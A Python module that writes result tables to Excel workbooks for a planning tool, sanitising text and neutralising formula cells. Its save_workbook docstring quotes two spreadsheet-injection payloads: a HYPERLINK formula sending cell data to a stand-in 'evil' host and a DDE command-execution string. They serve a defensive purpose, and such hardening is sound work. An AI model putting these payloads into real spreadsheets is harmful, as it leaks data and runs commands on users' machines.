"""Write result tables to an .xlsx workbook safely: text stays text, files go through `planner.outputs`."""
from __future__ import annotations

import json
import math
from pathlib import Path

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from planner.outputs import staged

atomic_path = staged  # the earlier name: every file reeplan writes is staged by planner.outputs

TONNES = "#,##0.0"
MONEY = "#,##0.00"
PERCENT = "0.0%"
HEADER_FONT = Font(bold=True)
MAX_CELL_TEXT = 32767  # Excel's limit on the characters of one cell


def number_format(column: str) -> str | None:
    """The Excel number format a result column is shown in."""
    if column.endswith("_t") or column in ("activity", "value_t"):
        return TONNES
    if column in ("service_level", "probability") or column.startswith("share"):
        return PERCENT
    if column in ("price", "shadow_price", "rhs", "slack", "objective", "cost", "marginal_value"):
        return MONEY
    return None


def safe_text(text: str) -> str:
    """Text a workbook can hold: control characters replaced, at most Excel's 32,767 characters."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)[:MAX_CELL_TEXT]


def cell_value(value):
    """A value Excel can hold: no NaN or infinities (left blank), plain Python types, safe text."""
    if value is None:
        return None
    if isinstance(value, str):
        return safe_text(value)
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if hasattr(value, "item"):  # numpy scalar
        return cell_value(value.item())
    if value is pd.NA:
        return None
    return value


def write_table(ws, frame: pd.DataFrame) -> None:
    """A sheet with a frozen bold header, filters, number formats and widths fitted to the content."""
    columns = list(frame.columns)
    ws.append(columns)
    for row in frame.itertuples(index=False):
        ws.append([cell_value(v) for v in row])
    for cell in ws[1]:
        cell.font = HEADER_FONT
    ws.freeze_panes = "A2"
    if columns:
        ws.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{max(len(frame) + 1, 2)}"
    for i, column in enumerate(columns, start=1):
        letter = get_column_letter(i)
        fmt = number_format(column)
        if fmt:
            for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
                if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    cell.number_format = fmt
        sample = [str(column)] + [str(v) for v in frame[column].head(200)]
        ws.column_dimensions[letter].width = min(max(len(s) for s in sample) + 3, 60)


def write_workbook(sheets: dict[str, pd.DataFrame], target: Path, decorate=None) -> None:
    """Write every table to its own sheet; `decorate(workbook)` may add charts and styling."""
    wb = Workbook()
    wb.remove(wb.active)
    for name, frame in sheets.items():
        write_table(wb.create_sheet(name), frame)
    if decorate is not None:
        decorate(wb)
    save_workbook(wb, target)


def save_workbook(wb, target: Path, keep_formulas: frozenset = frozenset()) -> None:
    """Save a workbook reeplan made through planner.outputs (every workbook writer ends here).

    Text stays text: openpyxl stores a string starting with '=' as a formula, so a name such as
    `=HYPERLINK("http://evil/?"&A1)` or a DDE payload `=cmd|' /C calc'!A0` would run in the planner's
    spreadsheet. reeplan writes no formulas of its own; `keep_formulas` ((sheet title, coordinate)) are
    formulas of the planner's own input workbook, kept in a validation report.
    """
    for ws in wb.worksheets:
        for cell in ws._cells.values():  # only the cells that exist; iter_rows would create the rest
            if cell.data_type == "f" and isinstance(cell.value, str) and (ws.title, cell.coordinate) not in keep_formulas:
                cell.data_type = "s"
    with staged(target) as tmp:
        wb.save(tmp)


def write_json(payload: dict, target: Path) -> None:
    with staged(target) as tmp:
        tmp.write_text(json.dumps(payload, indent=2, allow_nan=False), encoding="utf-8")
